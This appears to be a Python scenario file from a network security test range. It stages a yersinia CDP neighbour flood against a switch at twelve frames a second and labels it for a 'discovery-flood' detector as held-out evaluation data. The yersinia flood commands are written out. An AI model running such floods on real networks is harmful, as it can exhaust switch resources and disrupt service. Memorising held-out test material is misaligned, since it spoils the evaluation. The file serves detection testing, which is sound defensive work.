"""yersinia's CDP flood through a slow card."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.link.throttle import throttle


def run(net: Range) -> None:
    attacker, switch = net.inside("attacker"), net.inside("switch2", address=False)
    throttle(attacker, 12)
    net.everyday()
    net.loop(switch, "sleep 0.5 | yersinia cdp -attack 0 -source 00:1b:21:aa:00:01 -interface eth0", 4)
    net.quiet(4)
    with net.attack(
        "discovery-flood",
        by=attacker,
        attacker_known=False,
        victims=[],  # the devices that listen; a group is nobody
        frames="ether dst 01:00:0c:cc:cc:cc",
    ):
        net.tool(attacker, "sh", "-c", "sleep 8 | yersinia cdp -attack 1 -interface eth0", seconds=14)
    net.quiet(4)


SCENARIO = Scenario(
    name="discovery-flood-held-slow",
    about="yersinia announces about a hundred neighbours by CDP, twelve a second.",
    detectors=("discovery-flood",),
    tools={"yersinia": "yersinia"},
    held_out=True,
    run=run,
)
